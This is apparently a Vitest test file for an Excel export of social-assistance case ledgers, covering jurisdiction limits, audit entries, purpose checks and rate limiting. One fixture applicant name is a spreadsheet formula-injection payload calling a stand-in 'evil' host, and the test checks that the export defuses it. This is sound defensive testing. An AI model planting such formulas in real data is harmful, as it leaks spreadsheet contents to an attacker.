/**
 * The assistance ledgers over HTTP: the case list as an Excel file with the list's filters and jurisdiction,
 * audited as `ledger.export`, refused without a purpose or a recent verification, throttled per user (429 in Chinese).
 */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AccessTables, Actor } from '../access/index.js';
import { buildApp } from '../http/app.js';
import type { AppInstance } from '../http/types.js';
import { openTestDatabase, testConfig, type TestDatabase } from '../testing/db.js';
import { applyForAssistance } from './cases.js';
import { assistanceDeps } from './deps.js';
import { COMMITTEES, makeHousehold, makeStaff, seedAssistanceDivisions, STREETS, TestClock, tokenOf } from './testing.js';

const QUOTA = 6;
let t: TestDatabase;
let app: AppInstance;
let weifang: { authorization: string };
let lujiazui: { authorization: string };
const caseIds: number[] = [];

beforeAll(async () => {
  const signIn = { max: 1000, windowSeconds: 60 };
  t = await openTestDatabase(testConfig({ limits: { signInPerSource: signIn, signInPerAccount: signIn, ledgerExportsPerUser: { max: QUOTA, windowSeconds: 3600 } } }));
  app = await buildApp(t.ctx, { webDist: '/nonexistent' });
  await seedAssistanceDivisions(t.ctx);
  const caseworker: Actor = await makeStaff(t.ctx, 'lg_weifang', 'street_caseworker', STREETS.weifang);
  const other: Actor = await makeStaff(t.ctx, 'lg_lujiazui', 'street_caseworker', STREETS.lujiazui);
  const deps = assistanceDeps(t.ctx, new TestClock('2025-03-10'));
  const apply = async (actor: Actor, committee: string, name: string) => {
    const household = await makeHousehold(t.ctx, actor, [{ name, sex: 'F', birthDate: '1980-05-01', relation: 'head' }], { committee });
    const c = await applyForAssistance(deps, actor, {
      programme: 'dibao',
      householdId: household.householdId,
      applicantPersonId: household.personIds[0],
      reason: '收入低于低保标准',
      bankAccount: { holderName: name, bankName: '上海农商银行', accountNo: '6228480012345678901' },
    });
    caseIds.push(c.id);
  };
  await apply(caseworker, COMMITTEES.weifang1, '王小明');
  await apply(caseworker, COMMITTEES.weifang1, '=HYPERLINK("http://evil/?"&A1)');
  await apply(other, COMMITTEES.lujiazui1, '陆家嘴居民');
  weifang = await tokenOf(app, 'lg_weifang');
  lujiazui = await tokenOf(app, 'lg_lujiazui');
}, 240_000);

afterAll(async () => {
  await app?.close();
  await t?.close();
});

async function sheetOf(body: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  return workbook;
}

const exportCases = (headers: { authorization: string }, query: string) => app.inject({ method: 'GET', url: `/api/v1/assistance/cases/export?${query}`, headers });

describe('case ledger export', () => {
  it('gives the cases of the jurisdiction only, with Chinese headers, a Chinese file name and the filters sheet', async () => {
    const response = await exportCases(weifang, `status=applied&purpose=${encodeURIComponent('季度台账核对')}`);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toContain('spreadsheetml');
    expect(decodeURIComponent(String(response.headers['content-disposition']).split("UTF-8''")[1])).toMatch(/^救助案件台账_\d{12}\.xlsx$/);
    const workbook = await sheetOf(response.rawPayload);
    const sheet = workbook.getWorksheet('救助案件台账');
    if (!sheet) throw new Error('no ledger sheet');
    expect((sheet.getRow(1).values as unknown[]).slice(1, 4)).toEqual(['案件编号', '救助项目', '申请人']);
    const names = Array.from({ length: sheet.rowCount - 1 }, (_, i) => sheet.getRow(i + 2).getCell(3).value);
    // Newest first, as the list shows them; 陆家嘴's case is outside 潍坊's jurisdiction.
    expect(names).toEqual(['\'=HYPERLINK("http://evil/?"&A1)', '王小明']);
    expect(sheet.getRow(2).getCell(3).formula).toBeUndefined();
    expect(sheet.getRow(2).getCell(1).value).toBe(caseIds[1]);
    const about = workbook.getWorksheet('导出说明');
    expect(about?.getRow(2).getCell(2).value).toBe('lg_weifang（lg_weifang）');
    expect(about?.getRow(4).getCell(2).value).toBe('季度台账核对');
    expect(about?.getRow(7).values).toEqual([undefined, '　状态', '已申请']);
  });

  it('audits the export with the list, the filters, the row count and the purpose', async () => {
    const response = await exportCases(lujiazui, `purpose=${encodeURIComponent('核对本街道案件')}`);
    expect(response.statusCode, response.body).toBe(200);
    const entry = await t.db.kysely.withTables<AccessTables>().selectFrom('access.audit_log').selectAll().where('action', '=', 'ledger.export').where('actor_username', '=', 'lg_lujiazui').orderBy('id', 'desc').executeTakeFirstOrThrow();
    expect(entry).toMatchObject({ entity_type: 'ledger', entity_id: 'assistance.cases', purpose: '核对本街道案件', result: 'ok' });
    expect(entry.detail).toEqual({ list: '救助案件台账', filters: {}, rows: 1 });
  });

  it('refuses a division outside the jurisdiction as the list does, and an export without a purpose', async () => {
    expect((await exportCases(weifang, `division=${STREETS.lujiazui}&purpose=${encodeURIComponent('越权尝试')}`)).statusCode).toBe(403);
    const noPurpose = await exportCases(weifang, '');
    expect(noPurpose.statusCode).toBe(400);
  });

  it('refuses a role without the list permission', async () => {
    await makeStaff(t.ctx, 'lg_auditor', 'auditor', '310000000000');
    const auditor = await tokenOf(app, 'lg_auditor');
    const response = await exportCases(auditor, `purpose=${encodeURIComponent('越权尝试')}`);
    expect(response.statusCode).toBe(403);
  });

  it(`throttles a user's exports: after ${QUOTA} in the hour the next is 429 with a Chinese message, others unaffected`, async () => {
    await makeStaff(t.ctx, 'lg_busy', 'street_caseworker', STREETS.weifang);
    const busy = await tokenOf(app, 'lg_busy');
    const statuses: number[] = [];
    for (let i = 0; i < QUOTA + 1; i++) statuses.push((await exportCases(busy, `purpose=${encodeURIComponent('反复导出')}`)).statusCode);
    expect(statuses).toEqual([...Array(QUOTA).fill(200), 429]);
    const refused = await exportCases(busy, `purpose=${encodeURIComponent('反复导出')}`);
    expect(refused.statusCode).toBe(429);
    expect(refused.json()).toMatchObject({ code: 'RATE_LIMITED', message: expect.stringMatching(/^导出过于频繁：每 60 分钟最多导出 6 次台账，请 \d+ 秒后再试$/) });
    expect((await exportCases(lujiazui, `purpose=${encodeURIComponent('别人的导出')}`)).statusCode).toBe(200);
  });

  it('exports the reviews due with its own columns', async () => {
    const response = await app.inject({ method: 'GET', url: `/api/v1/assistance/reviews/due/export?until=2026-12-31&purpose=${encodeURIComponent('复核安排')}`, headers: weifang });
    expect(response.statusCode, response.body).toBe(200);
    const sheet = (await sheetOf(response.rawPayload)).getWorksheet('到期复核台账');
    expect(sheet?.getRow(1).values).toContain('逾期天数（负数为剩余天数）');
  });
});
